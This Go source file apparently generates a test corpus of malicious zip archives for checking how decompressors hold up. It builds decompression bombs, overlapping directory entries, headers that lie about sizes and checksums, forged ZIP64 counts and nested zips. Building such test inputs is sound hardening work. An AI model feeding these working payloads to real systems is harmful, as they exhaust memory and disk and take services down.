package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"slices"
	"strings"
)

// zipBombs are archives whose directory lies, or tells a truth that is too large.
func zipBombs() []bomb {
	return []bomb{
		{kind: "zip", name: "a member of 3 GB of one word", file: "goats.zip",
			write: func(w *writer) {
				zipOf(w,
					member{name: "goats.txt", data: deflatedGoats(3000), size: 3 * gB,
						sum: goatsSum(3000)})
			}},
		{kind: "zip", name: "50,000 names for one member of 10 MB", file: "overlapping.zip",
			write: func(w *writer) {
				overlapping(w, 50000)
			}},
		{kind: "zip", name: "a directory of a million empty members", file: "million.zip",
			write: func(w *writer) {
				zipOf(w, numbered(1000000, "")...)
			}},
		{kind: "zip", name: "100,000 members of one sentence", file: "sentences.zip", whole: true,
			write: func(w *writer) {
				zipOf(w,
					numbered(100000,
						"The ferry sank at dawn with nine goats aboard, said the coast guard of "+
							"Ostrava.")...)
			}},
		{kind: "zip", name: "a member of 1 GB that claims 10 bytes", file: "small.zip",
			write: func(w *writer) {
				zipOf(w,
					member{name: "goats.txt", data: deflatedGoats(1000), size: 10,
						sum: goatsSum(1000)})
			}},
		{kind: "zip", name: "a member of 10 bytes that claims 2^60", file: "large.zip",
			write: func(w *writer) {
				zipOf(w, member{name: "text.txt", data: "ten bytes.", stored: true, size: 1 << 60})
			}},
		{kind: "zip", name: "a zip of zips of zips of one word", file: "nested.zip",
			write: func(w *writer) {
				inner := member{name: "goats.txt", data: deflatedGoats(300), size: 300 * mB,
					sum: goatsSum(300)}
				for range 4 {
					var b strings.Builder
					zipOf(&b, slices.Repeat([]member{inner}, 16)...)
					inner = deflated("inner.zip", b.String())
				}
				zipOf(w, inner)
			}},
		{kind: "zip", name: "a thousand names of 65,000 bytes", file: "names.zip", whole: true,
			write: func(w *writer) {
				var all []member
				for i := range 1000 {
					all = append(all,
						plainMember(strings.Repeat("n", 64990)+fmt.Sprintf("%04d.txt", i), "a"))
				}
				zipOf(w, all...)
			}},
		{kind: "zip", name: "a directory that claims 2^60 members", file: "count.zip",
			write: func(w *writer) {
				w.say("PK\x03\x04", strings.Repeat("\x00", 26))
				end64 := []any{uint32(0x06064b50), uint64(44), uint16(45), uint16(45), uint32(0),
					uint32(0), uint64(1) << 60, uint64(1) << 60,
					uint64(30), uint64(0), uint32(0x07064b50), uint32(0), uint64(30), uint32(1)}
				for _, v := range end64 {
					binary.Write(w, binary.LittleEndian, v)
				}
				w.say("PK\x05\x06", "\x00\x00\x00\x00", strings.Repeat("\xff", 12), "\x00\x00")
			}},
		{kind: "zip", name: "100 members of 100 MB of one sentence", file: "prose.zip",
			write: func(w *writer) {
				line := "The ferry sank at dawn with nine goats aboard, said the coast guard of " +
					"Ostrava.\n\n"
				var b strings.Builder
				deflateRepeat(&b, strings.Repeat(line, 12500), 100)
				sum := crc32.NewIEEE()
				for range 100 {
					io.WriteString(sum, strings.Repeat(line, 12500))
				}
				var all []member
				for i := range 100 {
					all = append(all,
						member{name: fmt.Sprintf("%d.txt", i), data: b.String(),
							size: uint64(len(line) * 12500 * 100), sum: sum.Sum32()})
				}
				zipOf(w, all...)
			}},
	}
}

// A member of a zip, with the size and the sum that its header claims.
type member struct {
	name, data string
	stored     bool
	size       uint64
	sum        uint32
}

// plainMember is a stored member that does not lie.
func plainMember(name, data string) member {
	return member{name: name, data: data, stored: true, size: uint64(len(data)),
		sum: crc32.ChecksumIEEE([]byte(data))}
}

// deflated is a compressed member that does not lie.
func deflated(name, data string) member {
	m := plainMember(name, data)
	var b strings.Builder
	z, _ := flate.NewWriter(&b, flate.BestCompression)
	io.WriteString(z, data)
	z.Close()
	m.data, m.stored = b.String(), false
	return m
}

// numbered returns n stored members of one text.
func numbered(n int, text string) []member {
	all := make([]member, n)
	for i := range all {
		all[i] = plainMember(fmt.Sprintf("%07d.txt", i), text)
	}
	return all
}

// zipOf writes a zip as its members say.
func zipOf(w io.Writer, members ...member) {
	z := zip.NewWriter(w)
	for _, m := range members {
		h := &zip.FileHeader{Name: m.name, Method: zip.Deflate,
			CompressedSize64: uint64(len(m.data)), UncompressedSize64: m.size, CRC32: m.sum}
		if m.stored {
			h.Method = zip.Store
		}
		to, err := z.CreateRaw(h)
		if err == nil {
			io.WriteString(to, m.data)
		}
	}
	z.Close()
}

// deflatedGoats returns n megabytes of one word, compressed.
func deflatedGoats(n int) string {
	var b strings.Builder
	deflateRepeat(&b, goats, n)
	return b.String()
}

// goatsSum is the checksum of n megabytes of one word.
func goatsSum(n int) uint32 {
	sum := crc32.NewIEEE()
	for range n {
		io.WriteString(sum, goats)
	}
	return sum.Sum32()
}

// overlapping writes a zip whose directory has one member under n names.
func overlapping(w io.Writer, n int) {
	var b bytes.Buffer
	zipOf(&b,
		member{name: "0000000.txt", data: deflatedGoats(10), size: 10 * mB, sum: goatsSum(10)})
	at := bytes.Index(b.Bytes(), []byte("PK\x01\x02"))
	end := bytes.Index(b.Bytes(), []byte("PK\x05\x06"))
	w.Write(b.Bytes()[:at])
	entry := b.Bytes()[at:end]
	name := bytes.Index(entry, []byte("0000000"))
	for i := range n {
		copy(entry[name:], fmt.Sprintf("%07d", i))
		w.Write(entry)
	}
	w.Write([]byte("PK\x05\x06\x00\x00\x00\x00"))
	binary.Write(w, binary.LittleEndian, [2]uint16{uint16(n), uint16(n)})
	binary.Write(w, binary.LittleEndian, [2]uint32{uint32(n * len(entry)), uint32(at)})
	w.Write([]byte{0, 0})
}
